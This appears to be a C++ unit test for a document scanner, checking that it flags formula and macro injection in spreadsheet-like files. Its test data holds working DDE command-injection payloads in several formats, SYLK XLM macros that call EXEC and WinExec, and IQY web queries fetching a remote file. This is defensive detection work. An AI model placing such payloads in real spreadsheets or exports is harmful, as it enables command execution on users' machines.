// SPDX-License-Identifier: Apache-2.0
// Tables that are text: what a spreadsheet runs or fetches by them, and what it does not.
#include <gtest/gtest.h>

#include <string>

#include "engine/scan/worker/scan_job.h"

namespace postern::scan::worker {
namespace {

uint16_t marks(std::string_view bytes, std::string_view name) {
  Job job;
  job.bytes = bytes;
  job.name = name;
  uint16_t out = 0;
  for (const Leaf& leaf : scan_job(job).leaves) out = static_cast<uint16_t>(out | leaf.marks);
  return out;
}
bool has(std::string_view bytes, std::string_view name, Mark mark) {
  return (marks(bytes, name) & static_cast<uint16_t>(mark)) != 0;
}

TEST(ScanSheets, CommandsInTablesOfEveryKind) {
  const std::pair<std::string_view, std::string_view> files[] = {
      {"a.csv", "a,b\n=cmd|'/c calc'!A0,b\n"},
      {"A.CSV", "a,b\n=cmd|'/c calc'!A0,b\n"},
      {"a.tsv", "a\tb\n=cmd|'/c calc'!A0\tb\n"},
      {"a.prn", "=cmd|'/c calc'!A0\n"},
      {"a.xls", "a\tb\n=cmd|'/c calc'!A0\tb\n"},
      {"a.xls", "<html><table><tr><td>a</td><td>\n=cmd|'/c ca<b>lc</b>'!A0</td></tr></table></html>"},
      {"a.xls", "<html><table><tr><td x:fmla=\"=cmd&#124;'/c calc'!A0\">1</td></tr></table></html>"},
      {"a.dif", "TABLE\r\n0,1\r\n\"EXCEL\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n\"=cmd|'/c calc'!A0\"\r\n"},
      {"a.slk", "ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|'/c calc'!A0\r\nE\r\n"},
      {"a.txt", "ID;PWXL;N;E\r\nC;X1;Y1;K\"a;;b\";ECMD|'/c calc'!A0\r\nE\r\n"},
  };
  for (const auto& [name, bytes] : files) EXPECT_TRUE(has(bytes, name, Mark::macro_dde)) << bytes;
}

TEST(ScanSheets, MacrosInSymbolicLinks) {
  const std::string_view files[] = {
      "ID;P\r\nO;E\r\nC;X1;Y1;K0\r\nE\r\n",
      "ID;P\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EHALT()\nE\n",
      "ID;P\r\nC;X1;Y101;K0;EEXEC(\"CALC.EXE\")\r\nE\r\n",
      "ID;P\r\nC;X1;Y101;K0;EIF(A1,CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0))\r\nE\r\n",
  };
  for (const std::string_view bytes : files) EXPECT_TRUE(has(bytes, "a.slk", Mark::macro_xlm)) << bytes;
}

TEST(ScanSheets, QueriesOfTheWeb) {
  EXPECT_TRUE(has("WEB\r\n1\r\nhttp://192.0.2.1/x.dat\r\n", "a.iqy", Mark::remote_template));
  EXPECT_TRUE(has("WEB\n1\nhttp://192.0.2.1/x.dat\n", "a.iqy", Mark::remote_template));
  EXPECT_TRUE(has("https://192.0.2.1/x.dat\r\n", "a.iqy", Mark::remote_template));
  EXPECT_TRUE(has("WEB\r\n1\r\nhttp://192.0.2.1/x.dat\r\n", "a.txt", Mark::remote_template));
}

TEST(ScanSheets, OrdinaryTablesHaveNoMark) {
  const std::pair<std::string_view, std::string_view> files[] = {
      {"a.csv", "name,sum\na|b,=SUM(A1:A3)\n-3|4,x\n"},
      {"a.tsv", "name\tsum\nhello | world\t=A1!B2\n"},
      {"a.slk",
       "ID;PWXL;N;E\r\nP;PGeneral\r\nO;L;D;V0;K47;G100 0.001\r\nNN;NTotal;ER1C1\r\n"
       "C;Y1;X1;K\"EXEC(x) | y! ;;EEXEC(\"\r\nC;X2;K6;ESUM(RC[-1]:R[2]C[-1])\r\nC;X3;K\"=a|b!c\"\r\nE\r\n"},
      {"a.dif", "TABLE\r\n0,1\r\n\"EXCEL\"\r\nDATA\r\n0,0\r\n\"\"\r\n-1,0\r\nBOT\r\n1,0\r\n\"a | b!\"\r\n"},
      {"a.xls", "<html><table><tr><td>a | b!</td><td x:fmla=\"=A1+B1\">3</td></tr></table></html>"},
      {"a.html", "<html><table><tr><td>- a | b!</td></tr></table></html>"},
      {"a.txt", "WEB\r\n- one | two!\r\n"},
  };
  for (const auto& [name, bytes] : files) EXPECT_EQ(marks(bytes, name), 0u) << bytes;
}

}  // namespace
}  // namespace postern::scan::worker
